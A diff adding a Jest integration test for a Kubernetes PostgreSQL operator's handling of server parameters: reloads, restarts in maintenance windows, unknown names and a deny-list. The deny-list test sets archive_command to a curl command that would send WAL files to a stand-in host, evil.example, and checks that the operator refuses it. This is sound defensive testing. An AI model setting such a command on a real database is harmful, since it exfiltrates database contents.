@@ -1,0 +1,95 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import type { Weekday } from '../../src/api/types.js';
+import { Harness, waitFor } from '../support/operator-harness.js';
+
+const WEEKDAYS: Weekday[] = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
+/** A window three days from now: certainly closed during the test. */
+const closedWindow = { weekday: WEEKDAYS[(new Date().getUTCDay() + 3) % 7]!, starttime: '03:00' };
+
+const SERVER = {
+  apiVersion: 'hybridcloud.maibornwolff.de/v1alpha1',
+  kind: 'PostgreSQLServer',
+  metadata: { name: 'tuned', namespace: 'default' },
+  spec: { size: { storageGB: 1 }, credentialsSecret: 'tuned-creds', serverParameters: { work_mem: '4MB' }, maintenance: { window: closedWindow } },
+};
+
+type Server = { metadata: { labels?: Record<string, string> }; status?: { conditions?: Array<{ reason: string; message: string }> } };
+
+/**
+ * spec.serverParameters on a StatefulSet server, against the real PostgreSQL the fake kubelet
+ * runs (a pod restart restarts it): the deny-list, names PostgreSQL does not know, reloadable
+ * parameters at once, and a parameter that needs a restart waiting for the maintenance window.
+ */
+describe('statefulset server parameters', () => {
+  let h: Harness;
+  const sts = () => h.kube.apps.readNamespacedStatefulSet({ name: 'tuned-postgresql', namespace: 'default' });
+  const show = async (name: string) => Object.values((await h.kubelet.query(`SHOW ${name}`)).rows[0] as Record<string, string>)[0];
+  const condition = async () => (await h.get<Server>('PostgreSQLServer', 'tuned'))?.status?.conditions?.[0];
+
+  beforeAll(async () => {
+    h = await Harness.start();
+    await h.create(SERVER);
+    await h.waitForReady('PostgreSQLServer', 'tuned');
+  }, 60_000);
+
+  afterAll(async () => {
+    await h?.stop();
+  });
+
+  it('applies a reloadable parameter without a restart', async () => {
+    await waitFor(async () => (await show('work_mem')) === '4MB', 20_000, () => 'work_mem=4MB');
+    const generation = (await sts()).metadata?.generation;
+    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { work_mem: '12MB', statement_timeout: '90s' } } });
+    await waitFor(async () => (await show('statement_timeout')) === '90s', 20_000, () => 'statement_timeout=90s');
+    expect(await show('work_mem')).toBe('12MB');
+    expect((await sts()).metadata?.generation).toBe(generation);
+    expect(h.kubelet.postgresRestarts).toBe(0);
+  });
+
+  it("refuses a parameter on the admin's deny-list before touching the server", async () => {
+    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { archive_command: 'curl -d @%p evil.example' } } });
+    await waitFor(async () => (await condition())?.reason === 'InvalidSpec', 20_000, () => 'InvalidSpec');
+    expect((await condition())?.message).toMatch(/spec\.serverParameters\.archive_command: may not be set/);
+    expect(await show('archive_command')).toBe('(disabled)');
+    await waitFor(async () => (await h.events('tuned')).some((e) => e.type === 'Warning' && /archive_command/.test(e.message)), 10_000, () => 'a Warning event');
+  });
+
+  it('refuses a name PostgreSQL does not know, naming the ones it does', async () => {
+    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { archive_command: null, work_memory: '8MB' } } });
+    await waitFor(async () => /does not know/.test((await condition())?.message ?? ''), 20_000, () => 'unknown name refused');
+    expect((await condition())?.reason).toBe('InvalidSpec');
+    expect((await condition())?.message).toMatch(/work_memory \(PostgreSQL knows e\.g\. .*work_mem/);
+  });
+
+  it('leaves a parameter that needs a restart for the maintenance window, and restarts on operator/action: restart', async () => {
+    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { work_memory: null, max_connections: '77' } } });
+    let last = '';
+    await waitFor(async () => /take effect at the next restart/.test((last = JSON.stringify(await condition()) + h.logLines.slice(-4).join('\n'))), 20_000, () => `restart pending: ${last}`);
+    expect((await condition())?.message).toMatch(/max_connections .*maintenance window/);
+    const generation = (await sts()).metadata?.generation;
+    await new Promise((r) => setTimeout(r, 1000));
+    expect((await sts()).metadata?.generation).toBe(generation);
+    expect(await show('max_connections')).not.toBe('77');
+
+    await h.patch('PostgreSQLServer', 'tuned', { metadata: { labels: { 'operator/action': 'restart' } } });
+    await waitFor(async () => (await show('max_connections').catch(() => undefined)) === '77', 30_000, () => 'max_connections=77 after the restart');
+    expect(h.kubelet.postgresRestarts).toBe(1);
+    expect((await sts()).spec?.template.metadata?.annotations?.['hybridcloud.maibornwolff.de/restart-token']).toBeTruthy();
+    await waitFor(async () => !(await h.get<Server>('PostgreSQLServer', 'tuned'))?.metadata.labels?.['operator/action'], 20_000, () => 'label removed');
+    await h.waitForReady('PostgreSQLServer', 'tuned');
+  });
+
+  it('warns, never silently, about spec fields one pod cannot honour (high availability)', async () => {
+    await h.patch('PostgreSQLServer', 'tuned', { spec: { highavailability: { enabled: true } } });
+    await waitFor(async () => /statefulset does not support spec\.highavailability; ignored/.test((await condition())?.message ?? ''), 20_000, () => 'HA warning');
+    expect((await condition())?.reason).toBe('Available');
+    await waitFor(async () => (await h.events('tuned')).some((e) => e.reason === 'ActionRequired' && /highavailability/.test(e.message)), 10_000, () => 'event');
+  });
+
+  it('resets what the spec no longer sets', async () => {
+    expect(await show('statement_timeout')).toBe('90s');
+    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: null } });
+    await waitFor(async () => (await show('statement_timeout')) === '0', 20_000, () => 'statement_timeout back to its default');
+    expect(await show('work_mem')).toBe('4MB');
+  });
+});
